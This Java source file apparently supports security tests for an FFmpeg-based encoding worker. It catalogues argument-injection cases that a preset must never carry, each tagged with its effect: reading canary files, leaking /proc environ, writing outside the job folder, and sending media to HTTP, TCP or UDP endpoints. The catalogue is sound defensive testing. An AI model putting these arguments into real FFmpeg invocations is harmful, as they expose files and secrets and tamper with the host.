package openencoder.worker.ffmpeg.hostile;

import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/** Arguments that no preset may have, as FFmpeg would get them if presets were not checked. */
public final class Injections {
    /**
     * @param name the arguments, with names for what differs from run to run
     * @param effect what it does to a machine without a sandbox: R reads a file, L shows what is in
     *     it, W writes outside the job, N calls a TCP port, S sends to a UDP port; - nothing with
     *     this FFmpeg
     * @param arguments between the input and the output of an encode
     */
    public record Case(String name, String effect, List<String> arguments) {}

    // {text} and {film} are canary files, {victim} a folder outside the job.
    private static final String CASES =
            """
            RL  -f data -i {text} -map 1 -c copy -f data leak.bin
            RL  -f data -i file://{text} -map 1 -c copy -f data leak.bin
            RL  -f data -i subfile,,start,0,end,36,,:{text} -map 1 -c copy -f data leak.bin
            RL  -f data -i concat:{text}|{text} -map 1 -c copy -f data leak.bin
            R   -f rawvideo -s 4x4 -pix_fmt gray -i {text} -map 1 -f rawvideo leak.bin
            R   -f tty -i {text} -map 1 -frames 1 leak.png
            R   -i {film} -map 1:v -c copy leak.ts
            R   -vf movie={film}[x];[in][x]overlay
            R   -af amovie={film}[x];[in][x]amix
            R   -f lavfi -i movie={film} -map 1 -frames 1 leak.png
            RL  -/filter:v {text}
            RL  -/metadata {text}
            R   -fpre {text}
            RL  -filter_script:v {text}
            RL  -filter_complex_script {text}
            R   -vf sendcmd=f={text}
            R   -x264-params cqmfile={text}
            R   -c:v libx265 -x265-params scaling-list={text}
            R   -f hls -hls_key_info_file {text} leak.m3u8
            RL  -attach {text} -metadata:s:t mimetype=text/plain leak.mkv
            R   -f ffmetadata -i {text} -map_metadata 1
            -   -vf drawtext=textfile={text}
            -   -vf subtitles={text}
            N   -i {http}/film.mp4
            N   -protocol_whitelist file,http,tcp -i {http}/film.mp4
            N   -f lavfi -i movie='http\\://127.0.0.1\\:{port}/film.mp4'
            N   -i tcp://127.0.0.1:{port}
            N   -c copy -f mpegts {http}/stolen.ts
            N   -c copy -f hls -method PUT {http}/stolen.m3u8
            N   -progress {http}/progress
            NW  -c copy -map 0 -f tee [f=mpegts]{http}/stolen.ts|[f=mpegts]{victim}/stolen.ts
            S   -c copy -f mpegts udp://127.0.0.1:{udp}
            SW  -an -c:v copy -f rtp -sdp_file {victim}/session.sdp rtp://127.0.0.1:{udp}
            W   -c copy {victim}/bare.mp4
            W   -c copy -y ../victim/climbed.mp4
            W   -c copy -y {victim}/precious.mp4
            W   -vstats_file {victim}/vstats.log
            W   -pass 1 -passlogfile {victim}/pass
            W   -progress {victim}/progress
            W   -stats_enc_post:v {victim}/stats
            W   -c copy -f segment -segment_list {victim}/list.csv part%d.ts
            W   -c copy -f hls -hls_segment_filename {victim}/part%d.ts leak.m3u8
            W   -f image2 -update 1 {victim}/one.png
            W   -x264-params pass=1:stats={victim}/x264.log
            W   -x264-params dump-yuv={victim}/x264.yuv
            W   -c:v libx265 -x265-params csv={victim}/x265.csv
            W   -vf metadata=print:file={victim}/metadata
            W   -vf split[a][b];[a][b]psnr=stats_file={victim}/psnr
            W   -vf signature=filename={victim}/signature
            -   -report
            L   -f data -i file:/proc/{pid}/environ -map 1 -c copy -f data environment.bin
            -   -f data -i file:/proc/self/environ -map 1 -c copy -f data environment.bin
            -   -init_hw_device vaapi=x:{text}
            -   -metadata comment=@{text}
            """;

    private Injections() {}

    /**
     * @param victim a folder beside the job's own
     */
    public static List<Case> all(Canaries canaries, Path victim) {
        var places =
                Map.of(
                        "{text}", canaries.text().toString(),
                        "{film}", canaries.film().toString(),
                        "{victim}", victim.toString(),
                        "{http}", canaries.http(),
                        "{port}", Integer.toString(canaries.port()),
                        "{udp}", Integer.toString(canaries.udpPort()),
                        "{pid}", Long.toString(ProcessHandle.current().pid()));
        return CASES.lines().map(line -> parsed(line, places)).toList();
    }

    private static Case parsed(String line, Map<String, String> places) {
        var cells = line.split(" +", 2);
        var text = cells[1];
        for (var place : places.entrySet()) text = text.replace(place.getKey(), place.getValue());
        return new Case(cells[1], cells[0], Arrays.asList(text.split(" ")));
    }
}
